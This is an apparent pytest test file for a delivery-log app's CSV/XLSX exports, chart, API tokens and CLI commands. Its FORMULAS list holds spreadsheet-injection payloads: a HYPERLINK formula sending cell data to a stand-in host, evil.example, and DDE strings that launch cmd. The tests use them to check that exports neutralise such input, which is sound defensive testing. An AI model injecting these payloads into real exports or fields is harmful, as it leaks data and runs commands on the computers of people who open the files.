"""Exports (CSV, XLSX) of the filtered list, the hourly chart, the JSON API with its
tokens, and the CLI commands: create-staff, create-api-token, prune."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from bridge.logpage.api import token_hash
from bridge.logpage.export import COLUMNS, safe_cell
from bridge.services import services
from bridge.store.models import Action, ApiToken, Attempt, Event, StaffUser, utcnow
from tests.helpers import actions_of, count
from tests.logpage.conftest import cli, log_in
from tests.logpage.test_list import other_client


def test_csv_and_xlsx_exports_follow_the_filters(staff_client, seed):
    lucia = seed.event()
    seed.event("ClientAdd", other_client())
    response = staff_client.get("/log/export.csv?client_id=1042")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert re.match(r'attachment; filename="delivery-log-\d{8}-\d{6}\.csv"', response.headers["Content-Disposition"])
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(int(r["event_id"]), r["channel"], r["state"]) for r in rows] == [
        (lucia, "plan", "sent"),
        (lucia, "whatsapp", "sent"),
        (lucia, "email", "failed"),
    ]
    # The masked number starts with "+": text, so quoted in CSV like any other (see safe_cell).
    assert rows[1]["recipient"] == "'+54 9 351 ***-**34" and rows[2]["recipient"] == "l***@radioandina.example"
    assert rows[1]["dry_run"] == "yes" and "SMTP unreachable" in rows[2]["last_error"]

    xlsx = staff_client.get("/log/export.xlsx?client_id=1042&channel=email")
    assert xlsx.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    values = list(sheet.values)
    assert values[0] == COLUMNS
    assert [(r[0], r[7], r[8], r[9]) for r in values[1:]] == [(lucia, "email", "failed", "l***@radioandina.example")]


def test_exported_text_never_runs_as_a_formula():
    assert safe_cell('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("-cmd") == "'-cmd"
    assert safe_cell("+54 9 351 ***-**34") == "'+54 9 351 ***-**34"  # text, not a number
    assert safe_cell(42) == 42


# Cells a spreadsheet would run (OWASP's CSV injection list, "+1+…" and "-1+…" included), a
# control character XML cannot hold, and values that must come back as they went in.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "+1-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
)
PLAIN = ("-12.50", "+12", "12,50", "Lucía = Radio", "a+b", "Ana")


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_that_would_run_are_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_csv_cells_that_are_numbers_or_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_hostile_names_come_back_inert_from_both_exports(staff_client, seed):
    """Client names are what a customer types into WHMCS: each hostile one goes through the
    real webhook, the export and a parser, and comes back as text (CSV: quoted; XLSX: typed
    as text) or, for plain numbers, as the number it was."""
    quoted = {v.strip() for v in FORMULAS}  # the name's own spaces are trimmed at display
    names = [*quoted, *PLAIN, "vertical\u000btab", "bell\u0007 and \u001f unit separator"]
    events = {seed.event("ClientAdd", other_client(name=name) | {"lastname": ""}, work=False): name for name in names}

    csv_rows = list(csv.DictReader(io.StringIO(staff_client.get("/log/export.csv").text)))
    by_event = {int(row["event_id"]): row["client_name"] for row in csv_rows}
    for event_id, name in events.items():
        assert by_event[event_id] == ("'" + name if name in quoted else name), name

    response = staff_client.get("/log/export.xlsx")
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.data)).active
    header, *rows = sheet.iter_rows()
    name_at = [c.value for c in header].index("client_name")
    cells = {row[0].value: row[name_at] for row in rows}
    for event_id, name in events.items():
        cell = cells[event_id]
        assert cell.data_type == "s", name  # never a formula
        assert cell.value == re.sub(r"[\x07\x0b\x1f]", lambda m: f"\\x{ord(m.group()):02x}", name), name


def test_chart_counts_actions_per_hour_by_state(staff_client, seed, log_app):
    seed.event()
    seed.event("ClientAdd", other_client())
    for span in ("24h", "7d"):
        page = staff_client.get(f"/log/chart?range={span}").text
        bars = re.findall(r'<rect class="bar st-(\w+)" data-state="\w+" data-count="(\d+)"', page)
        assert sorted(bars) == [("failed", "2"), ("sent", "4")], span
        assert "6 actions" in page
        assert '<svg class="chart"' in page and "<script" not in page.split("</head>")[1]
    # Three days ago is outside the last 24 hours, inside the last 7 days.
    with services(log_app).db.engine.begin() as connection:
        connection.execute(Action.__table__.update().values(created_at=utcnow() - timedelta(days=3)))
    assert 'data-count="' not in staff_client.get("/log/chart?range=24h").text
    assert 'data-count="4"' in staff_client.get("/log/chart?range=7d").text


def test_api_needs_a_token_and_shares_the_filters(seed, log_app, staff):
    seed.event()
    marco = seed.event("ClientAdd", other_client())
    client = log_app.test_client()
    assert client.get("/api/events").status_code == 401
    assert client.get("/api/events", headers={"Authorization": "Bearer nope"}).status_code == 401
    log_in(client)  # a page session is not an API token
    assert client.get("/api/actions").status_code == 401

    result = cli(log_app, "create-api-token", "monitoring")
    assert result.exit_code == 0, result.output
    token = result.output.strip()
    with services(log_app).db.session() as session:
        [stored] = session.query(ApiToken).all()
        assert stored.token_hash == token_hash(token) and token not in stored.token_hash
    auth = {"Authorization": f"Bearer {token}"}
    events = client.get("/api/events?client_id=2001", headers=auth).json
    assert [e["id"] for e in events["events"]] == [marco] and events["next_before"] is None
    actions = client.get("/api/actions?state=failed", headers=auth).json["actions"]
    assert [(a["channel"], a["recipient"]) for a in actions] == [
        ("email", "m***@ejemplo.example"),
        ("email", "l***@radioandina.example"),
    ]
    page = client.get("/api/actions?limit=2", headers=auth).json
    rest = client.get(f"/api/actions?limit=10&before_id={page['next_before_id']}", headers=auth).json
    assert len(page["actions"]) + len(rest["actions"]) == 6 and rest["next_before_id"] is None


def test_create_staff_command(log_app):
    result = cli(log_app, "create-staff", "Ana@Hosting.example", "--password", "long enough pw")
    assert result.exit_code == 0, result.output
    prompted = cli(log_app, "create-staff", "bo@hosting.example", input="another good one\n" * 2)
    assert prompted.exit_code == 0, prompted.output
    assert cli(log_app, "create-staff", "ana@hosting.example", "--password", "x" * 12).exit_code == 1
    assert cli(log_app, "create-staff", "cy@hosting.example", "--password", "short").exit_code == 1
    with services(log_app).db.session() as session:
        users = {u.email: u.password_hash for u in session.query(StaffUser)}
    assert set(users) == {"ana@hosting.example", "bo@hosting.example"}
    assert all(h.startswith("$argon2id$") for h in users.values())
    assert log_in(log_app.test_client(), "ana@hosting.example", "long enough pw").status_code == 302


def test_prune_deletes_old_events_with_their_rows_in_batches(seed, log_app):
    old = seed.event()
    recent = seed.event("ClientAdd", other_client())
    svc = services(log_app)
    with svc.db.engine.begin() as connection:
        events = Event.__table__
        connection.execute(events.update().where(events.c.id == old).values(received_at=utcnow() - timedelta(days=200)))
    result = cli(log_app, "prune")
    assert result.exit_code == 0 and "deleted 1 events older than 180 days" in result.output
    assert count(svc, Event) == 1 and actions_of(svc, old) == [] and len(actions_of(svc, recent)) == 2
    assert count(svc, Attempt) == 3  # the recent event's planning, WhatsApp and email
